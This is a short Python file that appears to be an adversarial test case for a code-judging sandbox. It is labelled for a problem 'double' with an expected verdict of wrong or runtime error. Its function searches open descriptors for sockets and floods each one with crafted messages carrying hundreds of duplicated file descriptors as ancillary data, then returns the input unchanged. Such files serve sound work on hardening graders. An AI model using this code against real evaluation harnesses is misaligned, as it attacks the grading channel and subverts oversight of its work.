# what: sends descriptors over the channel as ancillary data, hundreds per message
# problem: double
# verdict: wrong|runtime_error
import array
import os
import socket
import stat


def double(x):
    handles = array.array("i", [os.open("/dev/null", os.O_RDONLY)] * 250)
    for handle in range(3, 64):
        try:
            if stat.S_ISSOCK(os.fstat(handle).st_mode):
                peer = socket.socket(fileno=os.dup(handle))
                for _ in range(8):
                    peer.sendmsg([b"\x00\x00\x00\x01["], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, handles)])
        except OSError:
            pass
    return x
